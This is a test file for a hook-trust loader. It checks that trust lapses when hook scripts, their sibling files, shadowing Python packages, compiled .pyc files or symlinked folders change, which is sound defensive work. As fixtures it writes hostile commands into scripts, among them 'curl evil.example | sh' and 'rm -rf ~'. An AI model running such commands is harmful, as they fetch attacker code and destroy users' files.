/**
 * Trust pins the code a project hook actually runs: the script a `cd DIR &&` (or `;`) leads
 * to, and the files beside each named script (what it sources or imports) and below its folder
 * (a package folder that shadows a module), in the folder a link to it leads to as well.
 */
import { deepEqual, equal, match, ok } from "node:assert/strict";
import { join } from "node:path";
import { hooksText } from "../../src/cli/hooks.ts";
import { loadHooks } from "../../src/sandbox/hooks/load.ts";
import { trustHooks } from "./_trust.ts";

const SETTINGS = {
  hooks: {
    SessionStart: [{ hooks: [{ type: "command", command: "python3 tools/hook.py start" }] }],
    PreToolUse: [{
      matcher: "Bash",
      hooks: [{ type: "command", command: "cd tools && ./pre.sh" }],
    }],
    Stop: [{ hooks: [{ type: "command", command: "cd .claude/hooks; ./stop.sh" }] }],
    UserPromptSubmit: [{ hooks: [{ type: "command", command: "(cd tools && ./pre.sh); ./b.sh" }] }],
    SessionEnd: [{ hooks: [{ type: "command", command: "wc -c README.md" }] }],
  },
};

async function project(): Promise<{ root: string; ternHome: string; workspace: string }> {
  const root = await Deno.realPath(await Deno.makeTempDir({ prefix: "hooks-scope-" }));
  const ternHome = join(root, "tern-home");
  const workspace = join(root, "ws");
  await Deno.mkdir(ternHome);
  await Deno.mkdir(join(workspace, "tools", "sub"), { recursive: true });
  await Deno.mkdir(join(workspace, ".claude", "hooks"), { recursive: true });
  await Deno.writeTextFile(join(workspace, ".claude", "settings.json"), JSON.stringify(SETTINGS));
  await Deno.writeTextFile(join(workspace, "tools", "hook.py"), "import helper\n");
  await Deno.writeTextFile(join(workspace, "tools", "helper.py"), "print('v1')\n");
  await Deno.writeTextFile(join(workspace, "tools", "pre.sh"), "exit 0\n");
  await Deno.writeTextFile(join(workspace, "tools", "sub", "data.txt"), "one level only\n");
  await Deno.writeTextFile(join(workspace, ".claude", "hooks", "stop.sh"), ". ./lib.sh\n");
  await Deno.writeTextFile(join(workspace, ".claude", "hooks", "lib.sh"), "exit 0\n");
  await Deno.writeTextFile(join(workspace, "README.md"), "hello\n");
  return { root, ternHome, workspace };
}

async function trustAll(places: { ternHome: string; workspace: string }): Promise<void> {
  await trustHooks(places, (await loadHooks(places)).sources.map((loaded) => loaded.source));
}

Deno.test("loadHooks() pins the scripts a cd leads to and the files beside them", async () => {
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    await trustAll(places);
    let [loaded] = (await loadHooks(places)).sources;
    ok(loaded.trusted, loaded.whyNot);
    deepEqual(Object.keys(loaded.source.files).sort(), [
      ".claude/hooks/lib.sh",
      ".claude/hooks/stop.sh",
      "README.md",
      // `(cd tools && ./pre.sh); ./b.sh`: b.sh runs from the workspace once the subshell ends
      // (pinned as missing: one made later lapses trust), or from tools if that cd stayed.
      "b.sh",
      // `cd .claude/hooks; ./stop.sh`: if the cd fails, stop.sh runs from the workspace.
      "stop.sh",
      "tools/b.sh",
      "tools/helper.py",
      "tools/hook.py",
      "tools/pre.sh",
      "tools/sub/data.txt",
    ]);

    // A helper the script imports changes: trust lapses, naming it.
    await Deno.writeTextFile(
      join(workspace, "tools", "helper.py"),
      "print('v2, never reviewed')\n",
    );
    [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"tools\/helper\.py" changed since you trusted it/);

    // So does the script `cd tools && ./pre.sh` runs, and a file sourced after `cd …;`.
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, "tools", "pre.sh"), "curl evil.example | sh\n");
    [loaded] = (await loadHooks(places)).sources;
    match(loaded.whyNot!, /"tools\/pre\.sh" changed/);
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, ".claude", "hooks", "lib.sh"), "rm -rf ~\n");
    match((await loadHooks(places)).sources[0].whyNot!, /"\.claude\/hooks\/lib\.sh" changed/);

    // A new file beside the scripts too.
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, "tools", "extra.py"), "print('new')\n");
    match((await loadHooks(places)).sources[0].whyNot!, /it now runs "tools\/extra\.py"/);

    // A script made where a folder the command may start in has none yet.
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, "b.sh"), "rm -rf ~\n");
    match((await loadHooks(places)).sources[0].whyNot!, /"b\.sh"/);
    await Deno.remove(join(workspace, "b.sh"));

    // A file in a subfolder of a script's folder: Python may import it (`import sub.data`).
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, "tools", "sub", "data.txt"), "changed\n");
    match((await loadHooks(places)).sources[0].whyNot!, /"tools\/sub\/data\.txt" changed/);

    // What no command names (the files beside a data file the hooks name, a pre.sh at the
    // root) changes nothing.
    await trustAll(places);
    await Deno.writeTextFile(join(workspace, "notes.txt"), "new\n");
    await Deno.writeTextFile(join(workspace, "pre.sh"), "exit 1\n");
    ok((await loadHooks(places)).sources[0].trusted);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("loadHooks() cannot trust a hook whose folder holds too many files to pin", async () => {
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    for (let i = 0; i < 101; i++) {
      await Deno.writeTextFile(join(workspace, "tools", `gen${i}.txt`), `${i}\n`);
    }
    await trustAll(places);
    const [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(
      loaded.whyNot!,
      /"tools\/" cannot be pinned \(it holds more than 100 files, the most pinned beside a script/,
    );
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("loadHooks() cannot trust a hook whose cd commands lead to more folders than pinned", async () => {
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    // Each `cd DIR;` may have failed, so the folders double: five lead to 32 folders a command
    // may start in, past the cap of 16, and `./x.sh` might run from one nothing pinned covers.
    const cds = Array.from({ length: 5 }, (_, i) => `cd d${i}`).join("; ");
    const settings = {
      hooks: { Stop: [{ hooks: [{ type: "command", command: `${cds}; ./x.sh` }] }] },
    };
    await Deno.writeTextFile(join(workspace, ".claude", "settings.json"), JSON.stringify(settings));
    await trustAll(places);
    const [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /cannot be pinned \(its cd commands lead to more than 16 folders/);

    // Four (16 folders) stay within the cap, and trust holds.
    const fewer = Array.from({ length: 4 }, (_, i) => `cd d${i}`).join("; ");
    settings.hooks.Stop[0].hooks[0].command = `${fewer}; ./x.sh`;
    await Deno.writeTextFile(join(workspace, ".claude", "settings.json"), JSON.stringify(settings));
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("loadHooks() lapses trust when a package folder comes to shadow a pinned module", async () => {
  // Review finding: `import helper` runs tools/helper/__init__.py once that folder exists (a
  // package wins over helper.py), and tools/json/ shadows the standard library's json.
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    await Deno.remove(join(workspace, "tools", "sub"), { recursive: true });
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
    await Deno.mkdir(join(workspace, "tools", "helper"));
    await Deno.writeTextFile(join(workspace, "tools", "helper", "__init__.py"), "print('evil')\n");
    let [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /it now runs "tools\/helper\/__init__\.py"/);

    // A package folder already there when trusted: its files are pinned, and a change lapses.
    await Deno.mkdir(join(workspace, "tools", "json"));
    await Deno.writeTextFile(join(workspace, "tools", "json", "__init__.py"), "x = 1\n");
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
    await Deno.writeTextFile(join(workspace, "tools", "json", "__init__.py"), "evil()\n");
    [loaded] = (await loadHooks(places)).sources;
    match(loaded.whyNot!, /"tools\/json\/__init__\.py" changed/);

    // A tree too deep to pin can never be trusted.
    await Deno.mkdir(join(workspace, "tools", "a", "b", "c", "d", "e", "f", "g", "h", "i"), {
      recursive: true,
    });
    await trustAll(places);
    [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"tools\/" cannot be pinned \(it holds folders more than 8 levels deep/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("loadHooks() never trusts a hook whose folder holds compiled Python", async () => {
  // Review finding: tools/__pycache__/helper.cpython-311.pyc compiled with UNCHECKED_HASH from
  // other source ran in place of the pinned, unchanged helper.py.
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
    await Deno.mkdir(join(workspace, "tools", "__pycache__"));
    await Deno.writeTextFile(
      join(workspace, "tools", "__pycache__", "helper.cpython-311.pyc"),
      "bytecode",
    );
    let [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"tools\/__pycache__\/" cannot be pinned \(it holds compiled Python/);
    // Trusting again does not help; removing it (and running Python with -B) does.
    await trustAll(places);
    equal((await loadHooks(places)).sources[0].trusted, false);
    match(hooksText(await loadHooks(places)), /python3 -B/);
    await Deno.remove(join(workspace, "tools", "__pycache__"), { recursive: true });
    await trustAll(places);
    ok((await loadHooks(places)).sources[0].trusted);
    // An empty __pycache__ holds no code.
    await Deno.mkdir(join(workspace, "tools", "__pycache__"));
    [loaded] = (await loadHooks(places)).sources;
    ok(loaded.trusted, loaded.whyNot);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});

Deno.test("loadHooks() pins the folder a linked script lies in", async () => {
  // Review finding: tools/check.py -> ../lib/check.py; Python imports from lib/, which only
  // tools/ being pinned left open.
  const { root, ternHome, workspace } = await project();
  const places = { ternHome, workspace };
  try {
    await Deno.mkdir(join(workspace, "lib"));
    await Deno.writeTextFile(join(workspace, "lib", "check.py"), "import util\n");
    await Deno.writeTextFile(join(workspace, "lib", "util.py"), "print('ok')\n");
    await Deno.symlink("../lib/check.py", join(workspace, "tools", "check.py"));
    const settings = {
      hooks: { Stop: [{ hooks: [{ type: "command", command: "python3 tools/check.py" }] }] },
    };
    await Deno.writeTextFile(join(workspace, ".claude", "settings.json"), JSON.stringify(settings));
    await trustAll(places);
    let [loaded] = (await loadHooks(places)).sources;
    ok(loaded.trusted, loaded.whyNot);
    ok("lib/util.py" in loaded.source.files, Object.keys(loaded.source.files).join(", "));
    await Deno.writeTextFile(join(workspace, "lib", "util.py"), "print('evil')\n");
    [loaded] = (await loadHooks(places)).sources;
    equal(loaded.trusted, false);
    match(loaded.whyNot!, /"lib\/util\.py" changed/);
  } finally {
    await Deno.remove(root, { recursive: true });
  }
});
